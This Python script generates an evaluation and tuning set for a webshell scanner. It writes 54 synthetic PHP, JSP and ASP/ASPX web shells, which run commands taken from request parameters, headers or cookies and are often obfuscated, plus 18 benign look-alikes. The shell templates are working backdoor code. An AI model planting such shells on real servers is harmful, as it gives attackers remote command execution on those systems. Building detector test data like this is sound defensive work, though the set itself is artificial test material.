#!/usr/bin/env python3
"""Writes the FIRST held-out evaluation set for the webshell scanner, now tuning data:
samples/generic_eval1_* (54 shells) and benign/eval1_* (18 benign look-alikes).

Written by us (no downloaded malware, no third-party samples): each malicious file combines one
execution technique with one input source and one or two obfuscation transformations, chosen by
a seeded random generator; the benign files are legitimate code that uses the same language
features (eval-like calls on constants, base64 images, fixed commands, callbacks).

History: held out (never tuned on) until 2026-12-06, when it measured 36/54 = 66.7 % recall
and 0/18 false positives. Its misses were then studied and fixed generically, so it moved into
samples/ and benign/ as tuning data; the current held-out set is heldout/ (make_heldout.py).

    python3 make_eval.py        # rewrites samples/generic_eval1_* and benign/eval1_* (seed 20261125)
"""
import base64
import os
import random
import zlib

SEED = 20261125
HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = os.path.join(HERE, "samples")
BENIGN_DIR = os.path.join(HERE, "benign")

PHP_INPUTS = [
    "$_POST['{k}']", "$_GET['{k}']", "$_REQUEST['{k}']", "$_COOKIE['{k}']",
    "$_SERVER['HTTP_{K}']", "file_get_contents('php://input')",
]
PHP_SINKS = ["eval", "assert", "system", "passthru", "shell_exec", "exec", "popen_read",
             "include_tmp", "call_user_func", "array_map", "preg_callback", "reflection",
             "create_function_like", "destruct"]


def php_name_obfuscations(name, rng):
    """Expressions that evaluate to the string `name`."""
    forms = [
        lambda: "'" + name[: len(name) // 2] + "'.'" + name[len(name) // 2:] + "'",
        lambda: "strrev('" + name[::-1] + "')",
        lambda: "str_rot13('" + name.translate(str.maketrans(
            "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) + "')",
        lambda: "base64_decode('" + base64.b64encode(name.encode()).decode() + "')",
        lambda: ".".join("chr(%d)" % ord(c) for c in name),
        lambda: '"' + "".join("\\x%02x" % ord(c) for c in name) + '"',
        lambda: "implode('', array('" + "','".join(name) + "'))",
        lambda: "str_replace('#', '', '" + "#".join(name) + "')",
        lambda: "strtolower('" + name.upper() + "')",
        lambda: "substr('xx" + name + "yy', 2, " + str(len(name)) + ")",
    ]
    return rng.choice(forms)()


def php_input(rng):
    key = rng.choice(["cmd", "x", "pass", "data", "z0", "q", "token", "page_id", "v"])
    return rng.choice(PHP_INPUTS).format(k=key, K=key.upper())


def php_shell(rng, i):
    sink = PHP_SINKS[i % len(PHP_SINKS)]
    inp = php_input(rng)
    v = rng.choice(["$a", "$fn", "$_", "$o0", "$handler", "$cfg"])
    w = rng.choice(["$p", "$d", "$in", "$req", "$payload"])
    decode = rng.choice(["", "base64_decode", "gzinflate_b64", "str_rot13", "hex2bin", "xor"])
    src = inp
    pre = ""
    if decode == "base64_decode":
        src = "base64_decode(%s)" % inp
    elif decode == "gzinflate_b64":
        src = "gzinflate(base64_decode(%s))" % inp
    elif decode == "str_rot13":
        src = "str_rot13(%s)" % inp
    elif decode == "hex2bin":
        src = "hex2bin(%s)" % inp
    elif decode == "xor":
        pre = ("%s = %s; $k = 'k3y'; for ($i = 0; $i < strlen(%s); $i++) "
               "{ %s[$i] = %s[$i] ^ $k[$i %% 3]; }\n" % (w, inp, w, w, w))
        src = w
    if not pre:
        pre = "%s = %s;\n" % (w, src)
    name = lambda n: php_name_obfuscations(n, rng)  # noqa: E731
    if sink == "eval":
        # eval is a language construct: reached through a wrapper or literally, with noise
        body = pre + "@eval(%s);\n" % w
    elif sink == "assert":
        body = pre + "%s = %s;\n%s(%s);\n" % (v, name("assert"), v, w)
    elif sink in ("system", "passthru", "shell_exec", "exec"):
        body = pre + "%s = %s;\necho %s(%s);\n" % (v, name(sink), v, w)
    elif sink == "popen_read":
        body = pre + ("%s = %s;\n$h = %s(%s, 'r');\nwhile (!feof($h)) echo fread($h, 4096);\n"
                      % (v, name("popen"), v, w))
    elif sink == "include_tmp":
        body = pre + ("$t = tempnam(sys_get_temp_dir(), 'c');\nfile_put_contents($t, '<?php ' . %s);\n"
                      "include $t;\nunlink($t);\n" % w)
    elif sink == "call_user_func":
        body = pre + "%s(%s, %s);\n" % (rng.choice(["call_user_func", "call_user_func_array"]),
                                        name("system"), w if "array" not in "call_user_func" else w)
        body = body.replace("call_user_func_array(%s, %s)" % (name("system"), w),
                            "call_user_func_array(%s, array(%s))" % (name("system"), w))
    elif sink == "array_map":
        body = pre + "array_map(%s, array(%s));\n" % (name("assert"), w)
    elif sink == "preg_callback":
        body = pre + ("preg_replace_callback('/.+/', function ($m) { return %s($m[0]); }, %s);\n"
                      % (rng.choice(["system", "shell_exec", "passthru"]), w))
    elif sink == "reflection":
        body = pre + "$r = new ReflectionFunction(%s);\n$r->invoke(%s);\n" % (name("system"), w)
    elif sink == "create_function_like":
        body = pre + "%s = %s;\n$f = %s('', %s);\n$f();\n" % (v, name("create_function"), v, w)
    else:  # destruct
        body = (pre + "class C%d { public $c; function __destruct() { %s($this->c); } }\n"
                "$o = new C%d();\n$o->c = %s;\n" % (i, rng.choice(["system", "assert", "passthru"]),
                                                    i, w))
    noise = rng.choice([
        "", "/* cache warmer */\n", "// compatibility shim for old hosts\n",
        "error_reporting(0);\nset_time_limit(0);\n", "if (!defined('ABSPATH')) { define('ABSPATH', __DIR__); }\n",
    ])
    text = "<?php\n" + noise + body
    if rng.random() < 0.25:
        text = "<html><body><h1>404 Not Found</h1></body></html>\n" + text + "?>\n"
    return text


JSP_TEMPLATES = [
    '<%@ page import="java.io.*" %><% String c = request.getParameter("{k}"); '
    'Process p = Runtime.getRuntime().exec(new String[]{{"/bin/sh", "-c", c}}); '
    'BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); '
    'String l; while ((l = r.readLine()) != null) out.println(l); %>',
    '<% String[] cmd = {{"bash", "-c", request.getHeader("{K}")}}; '
    'java.util.Scanner s = new java.util.Scanner(new ProcessBuilder(cmd).start().getInputStream())'
    '.useDelimiter("\\\\A"); out.print(s.hasNext() ? s.next() : ""); %>',
    '<% Class<?> rt = Class.forName("java.lang." + "Run" + "time"); '
    'Object o = rt.getMethod("getRun" + "time").invoke(null); '
    'rt.getMethod("ex" + "ec", String.class).invoke(o, request.getParameter("{k}")); %>',
    '<%@ page import="javax.script.*" %><% ScriptEngine e = new ScriptEngineManager()'
    '.getEngineByName("js"); out.print(e.eval(request.getParameter("{k}"))); %>',
    '<%! class L extends ClassLoader {{ L(ClassLoader p) {{ super(p); }} '
    'Class<?> d(byte[] b) {{ return super.defineClass(b, 0, b.length); }} }} %>'
    '<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("{k}")); '
    'new L(getClass().getClassLoader()).d(b).newInstance().equals(pageContext); %>',
    '<% String k = "{k}"; String v = new String(java.util.Base64.getDecoder()'
    '.decode(request.getParameter(k))); Runtime.getRuntime().exec(v); %>',
]

ASP_TEMPLATES = [
    '<%\nDim c\nc = Request.Form("{k}")\nExecute(c)\n%>',
    '<%\nSet s = Server.CreateObject("WScr" & "ipt.Shell")\n'
    'Set e = s.Exec("cmd /c " & Request("{k}"))\nResponse.Write e.StdOut.ReadAll()\n%>',
    '<%\nf = Chr(69) & Chr(120) & "ecute"\nExecuteGlobal Request.Item("{k}")\n%>',
    '<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", '
    '"/c " + Request["{k}"]); p.RedirectStandardOutput = true; p.UseShellExecute = false; '
    'Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd()); %>',
    '<%@ Page Language="Jscript" %><% eval(Request.Item["{k}"], "unsafe"); %>',
    '<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String('
    'Request.Form["{k}"])).CreateInstance("P").Equals(this); %>',
]

BENIGN = {
    "php_template_cache.php": """<?php
// Compiles templates to PHP once and includes the cached file.
function render_template($name, array $vars) {
    $cache = __DIR__ . '/cache/' . basename($name) . '.php';
    if (!is_file($cache)) {
        $src = file_get_contents(__DIR__ . '/templates/' . basename($name) . '.tpl');
        $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?php echo htmlspecialchars($$1); ?>', $src);
        file_put_contents($cache, $php);
    }
    extract($vars, EXTR_SKIP);
    include $cache;
}
""",
    "php_backup_cron.php": """<?php
// Nightly backup: fixed command, arguments escaped.
$target = '/var/backups/site-' . date('Ymd') . '.tar.gz';
exec('tar czf ' . escapeshellarg($target) . ' ' . escapeshellarg(__DIR__ . '/uploads'), $out, $rc);
if ($rc !== 0) { error_log('backup failed: ' . implode("\\n", $out)); }
""",
    "php_logo_inline.php": """<?php
// Serves the embedded logo.
$logo = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGUlEQVR42mNkYPhfz0AEYBxVSF+FAAAKkwIQ4zJ0KAAAAABJRU5ErkJggg==';
header('Content-Type: image/png');
echo base64_decode($logo);
""",
    "php_event_dispatch.php": """<?php
// Dispatches registered listeners (callbacks registered in code, not from input).
class Events {
    private $listeners = array();
    public function on($name, callable $cb) { $this->listeners[$name][] = $cb; }
    public function fire($name, array $args = array()) {
        foreach ($this->listeners[$name] ?? array() as $cb) { call_user_func_array($cb, $args); }
    }
}
$e = new Events();
$e->on('save', 'trim');
$e->fire('save', array(' x '));
""",
    "php_router.php": """<?php
// Maps ?page= to a whitelisted controller.
$routes = array('home' => 'HomeController', 'news' => 'NewsController');
$page = isset($_GET['page']) ? $_GET['page'] : 'home';
if (!isset($routes[$page])) { http_response_code(404); exit; }
$class = $routes[$page];
require __DIR__ . '/controllers/' . $class . '.php';
$c = new $class();
echo $c->handle($_GET);
""",
    "php_math_eval.php": """<?php
// Evaluates a stored formula from the site configuration (not from the request).
$config = array('tax' => '0.06');
$formula = 'return ' . floatval($config['tax']) . ' * 100;';
$percent = eval($formula);
printf("Tax: %.1f%%", $percent);
""",
    "php_usort_dates.php": """<?php
$items = array(array('d' => '2026-01-02'), array('d' => '2025-12-31'));
usort($items, function ($a, $b) { return strcmp($a['d'], $b['d']); });
$names = array_map('strtoupper', array('a', 'b'));
echo json_encode(array($items, $names));
""",
    "php_upload_check.php": """<?php
// Accepts image uploads only; the name is regenerated.
if (!empty($_FILES['img']) && $_FILES['img']['error'] === UPLOAD_ERR_OK) {
    $info = getimagesize($_FILES['img']['tmp_name']);
    if ($info === false) { die('not an image'); }
    $name = bin2hex(random_bytes(8)) . image_type_to_extension($info[2]);
    move_uploaded_file($_FILES['img']['tmp_name'], __DIR__ . '/uploads/' . $name);
}
""",
    "php_gz_cache.php": """<?php
// Reads a compressed cache entry written by this application.
$f = __DIR__ . '/cache/menu.gz';
$menu = is_file($f) ? unserialize(gzuncompress(file_get_contents($f)), array('allowed_classes' => false)) : array();
foreach ($menu as $item) { echo '<li>' . htmlspecialchars($item) . '</li>'; }
""",
    "php_reflection_di.php": """<?php
// A tiny dependency-injection container built on reflection.
function make($class) {
    $r = new ReflectionClass($class);
    $ctor = $r->getConstructor();
    $args = array();
    if ($ctor) foreach ($ctor->getParameters() as $p) { $args[] = make($p->getType()->getName()); }
    return $r->newInstanceArgs($args);
}
""",
    "php_captcha.php": """<?php
session_start();
$code = substr(str_shuffle('ABCDEFGHJKLMNPQRSTUVWXYZ23456789'), 0, 5);
$_SESSION['captcha'] = $code;
$im = imagecreatetruecolor(90, 30);
imagestring($im, 5, 10, 8, $code, imagecolorallocate($im, 255, 255, 255));
header('Content-Type: image/png');
imagepng($im);
""",
    "php_hex_color.php": """<?php
$c = isset($_GET['c']) && preg_match('/^[0-9a-f]{6}$/i', $_GET['c']) ? $_GET['c'] : '336699';
$rgb = array_map('hexdec', str_split($c, 2));
echo 'rgb(' . implode(',', $rgb) . ')';
echo bin2hex(hex2bin($c));
""",
    "jsp_news.jsp": """<%@ page contentType="text/html; charset=UTF-8" import="java.util.*" %>
<% String id = request.getParameter("id");
   if (id == null || !id.matches("[0-9]+")) { response.sendError(404); return; }
   List<String> titles = (List<String>) application.getAttribute("titles");
   out.println("<h1>" + org.apache.commons.text.StringEscapeUtils.escapeHtml4(titles.get(Integer.parseInt(id))) + "</h1>"); %>
""",
    "jsp_health.jsp": """<%@ page import="java.lang.management.*" %>
<% MemoryMXBean m = ManagementFactory.getMemoryMXBean();
   out.print("{\\"heap\\":" + m.getHeapMemoryUsage().getUsed() + "}"); %>
""",
    "jsp_upload.jsp": """<%@ page import="java.io.*, java.util.Base64" %>
<% String data = request.getParameter("avatar");
   byte[] png = Base64.getDecoder().decode(data);
   if (png.length > 4 && png[1] == 'P' && png[2] == 'N' && png[3] == 'G') {
     try (FileOutputStream f = new FileOutputStream(application.getRealPath("/avatars/") + session.getId() + ".png")) { f.write(png); }
   } %>
""",
    "asp_guestbook.asp": """<%
Dim name
name = Server.HTMLEncode(Request.Form("name"))
If Len(name) > 0 Then
  Response.Write "<p>Thank you, " & name & "</p>"
End If
%>
""",
    "asp_counter.asp": """<%
Dim fso, f, n
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile(Server.MapPath("count.txt"), 1)
n = CInt(f.ReadLine) + 1
f.Close
Response.Write n
%>
""",
    "aspx_search.aspx": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  string q = Request.QueryString["q"] ?? "";
  lit.Text = Server.HtmlEncode(q);
}
</script>
<asp:Literal id="lit" runat="server" />
""",
}


def main():
    rng = random.Random(SEED)
    for d in (SAMPLES, BENIGN_DIR):
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            if old.startswith(("generic_eval1_", "eval1_")):
                os.remove(os.path.join(d, old))
    mal = lambda name: os.path.join(SAMPLES, "generic_eval1_" + name)  # noqa: E731
    ben = lambda name: os.path.join(BENIGN_DIR, "eval1_" + name)  # noqa: E731
    n = 0
    for i in range(42):
        with open(mal("php_%02d.php" % i), "w") as f:
            f.write(php_shell(rng, i))
        n += 1
    for i, t in enumerate(JSP_TEMPLATES):
        k = rng.choice(["cmd", "x", "c0"])
        with open(mal("jsp_%02d.jsp" % i), "w") as f:
            f.write(t.format(k=k, K=k.upper()))
        n += 1
    for i, t in enumerate(ASP_TEMPLATES):
        k = rng.choice(["cmd", "x", "z"])
        ext = "aspx" if "Page Language" in t else "asp"
        with open(mal("asp_%02d.%s" % (i, ext)), "w") as f:
            f.write(t.format(k=k, K=k.upper()))
        n += 1
    for name, text in BENIGN.items():
        with open(ben(name), "w") as f:
            f.write(text)
    print("wrote %d malicious files to %s and %d benign files to %s" % (n, SAMPLES, len(BENIGN),
                                                                       BENIGN_DIR))


if __name__ == "__main__":
    main()
